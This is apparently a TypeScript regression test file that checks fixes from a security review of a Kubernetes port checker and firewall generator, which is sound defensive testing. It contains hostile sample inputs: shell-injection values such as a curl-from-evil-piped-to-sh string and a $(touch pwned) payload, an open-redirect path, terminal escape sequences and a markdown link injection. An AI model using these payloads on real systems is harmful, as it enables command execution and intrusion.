// One test per finding of the security review (issue 21, on main at 6eeef63), named after it,
// each on the exact input the review used. The property tests (security-properties.test.ts) cover
// the classes; these keep the reported cases from coming back.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { request } from 'node:http';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { model } from '../../src/domain/data.ts';
import { parseCidr, parseIp } from '../../src/domain/net.ts';
import { HOST_TOOLS } from '../../src/firewall/plan.ts';
import { readReach } from '../../src/firewall/reach-read.ts';
import { REACH_FORMAT, staticReachScript } from '../../src/firewall/reach.ts';
import { runFirewallCli } from '../../src/cli/firewall.ts';
import { runCli, type CliIo } from '../../src/cli/check-ports.ts';
import { MAX_INPUT_BYTES, overLimit } from '../../src/checker/parse.ts';
import { reportToMarkdown } from '../../src/checker/report.ts';
import { serviceWorkerSource } from '../../scripts/lib/service-worker.ts';
import { check } from './checker-helpers.ts';
import { runWithStubs } from './stub-shell.ts';
import { findCommand, missingTools } from '../../scripts/lib/system-tools.ts';
import { firewallPlan } from '../../src/firewall/plan.ts';
import { generateHost } from '../../src/firewall/generate.ts';

const probe = (src: string) =>
  `${REACH_FORMAT} from=worker src=${src} to=10.0.0.10 role=control-plane proto=tcp port=10250 result=timeout ms=3001 service=kubelet`;

function firewall(args: string[]) {
  let out = '';
  let err = '';
  const code = runFirewallCli(
    args,
    (t) => (out += t),
    (t) => (err += t),
    model,
  );
  return { code, out, err };
}

function io(stdin: string) {
  const out: string[] = [];
  const value: CliIo = {
    readFile: () => Promise.reject(new Error('ENOENT')),
    readStdin: () => Promise.resolve(new TextEncoder().encode(stdin)),
    stdinIsTerminal: false,
    out: (t) => out.push(t),
    err: (t) => out.push(t),
  };
  return { value, out };
}

test("finding (high): command injection through the probe reader's src= gives no rule", () => {
  for (const src of ["x'$(touch${IFS}pwned)'", '10.0.0.20;curl${IFS}evil|sh;#'])
    for (const tool of HOST_TOOLS) {
      const r = readReach(model, probe(src), tool);
      assert.deepEqual(r.findings, [], `${tool}: ${src}`);
      assert.equal(r.unrecognized.length, 1);
      assert.match(r.unrecognized[0]!.reason, /^src=: .*; no rule offered$/);
    }
  // The same line with a real address gets its rule, which runs as the one tool and nothing else.
  const rule = readReach(model, probe('10.0.0.20'), 'firewalld').findings[0]!.rule!;
  const run = runWithStubs(rule);
  assert.deepEqual(
    run.calls.map((c) => c.command),
    ['sudo', 'firewall-cmd'],
  );
  assert.ok(run.calls[1]!.args.includes('--add-rich-rule=' + rule.split("'")[1]));
});

test('finding (medium): addresses accepted loosely are refused, and a CIDR with host bits names its network', () => {
  for (const loose of ['10.0.0.010', '010.0.0.1/24', ':', '1:2:3:4:5:6:7:8:9', '10.0.0.0/33'])
    assert.equal(parseCidr(loose).ok, false, loose);
  const r = firewall(['--tool', 'iptables', '--role', 'worker', '--node-cidr', '10.0.0.010']);
  assert.equal(r.code, 2);
  assert.match(r.err, /--node-cidr/);
  assert.doesNotMatch(r.out, /10\.0\.0\.010/);
  const hostBits = parseCidr('10.0.0.5/24');
  assert.ok(!hostBits.ok && hostBits.error.includes('10.0.0.0/24'));
  // IPv6 as RFC 4291 allows, printed as RFC 5952 says.
  const printed = (t: string) => {
    const p = parseIp(t);
    return p.ok ? p.value : p.error;
  };
  assert.equal(printed('2001:DB8:0:0:0:0:2:1'), '2001:db8::2:1');
  assert.equal(printed('2001:0:0:1:0:0:0:1'), '2001:0:0:1::1');
  assert.equal(printed('2001:db8:0:1:1:1:1:1'), '2001:db8:0:1:1:1:1:1');
  assert.equal(printed('::FFFF:10.0.0.1'), '::ffff:10.0.0.1');
});

test('finding (medium): quadratic format detection; 100,000 blank lines say "input is empty", 20,000 and an x read as plain', async () => {
  await assert.rejects(check('\n'.repeat(100_000)), /empty/i);
  const r = await check(`${'\n'.repeat(20_000)}x`);
  assert.equal(r.format, 'plain');
  assert.equal(r.findings.length, 0);
  // The time itself is held as a ratio in linear-time.test.ts.
});

test('finding (medium): an unbounded reserved range is refused on its line; nothing is expanded', async () => {
  const text = 'net.ipv4.ip_local_reserved_ports = 70000-1000000000';
  const r = await check(text);
  assert.equal(r.unrecognized.length, 1);
  assert.match(r.unrecognized[0]!.reason ?? '', /65535/);
  assert.ok(!r.notes.some((n) => /sysctl -w[^\n]*70000/.test(n)), 'no sysctl -w advice past 65535');
  const cli = io(text);
  assert.ok([0, 1, 2].includes(await runCli([], cli.value, model)), 'a documented exit code');
  assert.match(cli.out.join(''), /65535/);
});

test('finding (low): serve gives no open redirect, answers bad escapes with 400, and keeps _headers and _redirects private', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ck8s-serve-'));
  writeFileSync(join(dir, 'index.html'), '<p>home</p>');
  writeFileSync(join(dir, '404.html'), '<p>not found</p>');
  writeFileSync(join(dir, '_headers'), '/*\n  X-Test: 1\n');
  writeFileSync(join(dir, '_redirects'), '/old /new 301\n');
  const port = 20000 + Math.floor(Math.random() * 20000);
  const child = spawn(process.execPath, ['scripts/serve.ts', dir], {
    env: { ...process.env, PORT: String(port), HOST: '127.0.0.1' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  try {
    await new Promise<void>((ok, fail) => {
      child.stdout.on('data', () => ok());
      child.on('exit', (code) => fail(new Error(`serve exited ${code}`)));
    });
    const get = (path: string) =>
      new Promise<{ status: number; location?: string }>((ok, fail) =>
        request({ host: '127.0.0.1', port, path }, (res) => {
          res.resume();
          ok({
            status: res.statusCode!,
            ...(res.headers.location ? { location: res.headers.location } : {}),
          });
        })
          .on('error', fail)
          .end(),
      );
    const redirect = await get('//x//evil.example/..%2fports');
    assert.ok([400, 404].includes(redirect.status), String(redirect.status));
    assert.equal(redirect.location, undefined);
    assert.equal((await get('/%zz')).status, 400);
    assert.equal((await get('/%E0%A4%A')).status, 400);
    assert.equal((await get('/_headers')).status, 404);
    assert.equal((await get('/_redirects')).status, 404);
    assert.equal((await get('/')).status, 200);
  } finally {
    child.kill();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('finding (low): the service worker caches /pagefind/ files even though the page reads the body', async () => {
  const stored = new Map<string, Response>();
  const handlers: Record<string, (e: unknown) => void> = {};
  const cache = {
    put: (req: Request, res: Response) => void stored.set(req.url, res),
    addAll: () => Promise.resolve(),
  };
  runInNewContext(serviceWorkerSource('v1', []), {
    self: {
      addEventListener: (type: string, fn: (e: unknown) => void) => (handlers[type] = fn),
      location: { origin: 'https://site.example' },
    },
    caches: { open: () => Promise.resolve(cache), match: () => Promise.resolve(undefined) },
    fetch: () => Promise.resolve(new Response('index bytes')),
    URL,
    Promise,
  });
  let answer: Promise<Response> | undefined;
  handlers.fetch!({
    request: new Request('https://site.example/pagefind/pagefind-entry.json'),
    respondWith: (p: Promise<Response>) => (answer = p),
  });
  const res = await answer!;
  assert.equal(await res.text(), 'index bytes'); // the page reads the body first
  await new Promise((r) => setTimeout(r, 10));
  const copy = stored.get('https://site.example/pagefind/pagefind-entry.json');
  assert.ok(copy, 'cached');
  assert.equal(await copy.text(), 'index bytes');
});

test('finding (low): ck8s-reach.sh --timeout 0 is refused before anything is probed', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ck8s-timeout-'));
  try {
    writeFileSync(join(dir, 'ck8s-reach.sh'), staticReachScript(model));
    // timeout and ping are stubs here too, so even a wrong answer sends no packet.
    for (const stub of ['timeout', 'ping'])
      writeFileSync(join(dir, stub), '#!/bin/bash\necho "$0" >> "$LOG"\nexit 1\n', { mode: 0o755 });
    for (const t of ['0', '00', '', 'x', '-1']) {
      const p = spawnSync(
        'bash',
        ['ck8s-reach.sh', '--role', 'worker', '--worker', '127.0.0.2', '--timeout', t],
        {
          cwd: dir,
          env: { PATH: `${dir}:/usr/bin:/bin`, LOG: join(dir, 'log') },
          encoding: 'utf8',
        },
      );
      assert.equal(p.status, 2, t);
      assert.match(p.stderr, /--timeout must be a whole number of seconds, at least 1/, t);
    }
    assert.equal(spawnSync('test', ['-e', join(dir, 'log')]).status, 1, 'nothing was probed');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('finding (low): terminal escapes in pasted process names never reach the terminal raw', async () => {
  const cli = io(
    'tcp LISTEN 0 4096 *:6443 *:* users:(("\u001b]0;owned\u0007x\u009b2J",pid=1,fd=3))\n',
  );
  await runCli([], cli.value, model);
  const printed = cli.out.join('');
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(printed, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  assert.match(printed, /\\x1b\]0;owned\\x07/);
});

test('finding (low): in "Copy as Markdown" a process name like [fix](https://evil) stays text', async () => {
  const r = await check('tcp LISTEN 0 4096 *:6443 *:* users:(("[fix](https://evil)",pid=1,fd=3))');
  const md = reportToMarkdown(r);
  assert.ok(!md.includes('[fix](https://evil)'), md);
  assert.ok(
    md.includes('\\[fix\\]\\(https://evil\\)') || md.includes('\\[fix\\](https://evil)'),
    md,
  );
});

test('finding (low): a file 10 bytes over the limit is reported with exact sizes', () => {
  assert.equal(
    overLimit(MAX_INPUT_BYTES + 10, 'bytes'),
    '16,777,226 bytes; the limit is 16,777,216 (16 MiB)',
  );
});

test('finding (low): a data error prints its message, without {} or a stack trace', () => {
  const p = spawnSync(
    process.execPath,
    [
      '--input-type=module',
      '-e',
      "import { ReferenceDataError } from './src/domain/validate.ts'; throw new ReferenceDataError('data/reference.json', ['ports 6443 (kube-apiserver): bind: expected one of ...']);",
    ],
    { encoding: 'utf8' },
  );
  assert.equal(p.status, 1);
  assert.match(
    p.stderr,
    /Invalid data in data\/reference\.json:\n {2}- ports 6443 \(kube-apiserver\): bind/,
  );
  assert.doesNotMatch(p.stderr, /^\s+at /m);
  assert.doesNotMatch(p.stderr, /\{\s*\}|problems:/);
});

test(
  'finding (low): running the generated iptables script twice adds one jump, not two',
  { skip: missingTools('ip', 'iptables-restore', 'ip6tables-restore') },
  () => {
    const script = generateHost(
      'iptables',
      firewallPlan(model, model.roleNode({ role: 'worker' }, 'firewall')),
    );
    const ns = `ck8s-ipt-${process.pid}`;
    const dir = mkdtempSync(join(tmpdir(), 'ck8s-ipt-'));
    const ip = findCommand('ip')!;
    const inNs = (cmd: string[]) =>
      spawnSync(ip, ['netns', 'exec', ns, ...cmd], {
        encoding: 'utf8',
        // sudo is a stub that runs its command: the test is root inside its own namespace.
        env: { PATH: `${dir}:/usr/sbin:/usr/bin:/sbin:/bin` },
      });
    assert.equal(spawnSync(ip, ['netns', 'add', ns]).status, 0, 'ip netns add');
    try {
      writeFileSync(join(dir, 'sudo'), '#!/bin/bash\nexec "$@"\n', { mode: 0o755 });
      writeFileSync(join(dir, 'rules.sh'), script);
      const rules = () =>
        ['iptables', 'ip6tables'].flatMap((t) =>
          ['INPUT', 'FORWARD', 'CK8S-INPUT', 'CK8S-FORWARD'].map(
            (chain) => inNs([t, '-S', chain]).stdout,
          ),
        );
      for (const time of ['first', 'second']) {
        const run = inNs(['bash', join(dir, 'rules.sh')]);
        assert.equal(run.status, 0, `${time} run: ${run.stderr}`);
      }
      const after = rules();
      const jumps = after.join('').match(/^-A (INPUT|FORWARD) -j CK8S-(INPUT|FORWARD)$/gm) ?? [];
      assert.equal(jumps.length, 4, after.join('')); // INPUT and FORWARD, IPv4 and IPv6, once each
      const run = inNs(['bash', join(dir, 'rules.sh')]);
      assert.equal(run.status, 0, run.stderr);
      assert.deepEqual(rules(), after, 'a third run changes nothing');
    } finally {
      spawnSync(ip, ['netns', 'del', ns]);
      rmSync(dir, { recursive: true, force: true });
    }
  },
);
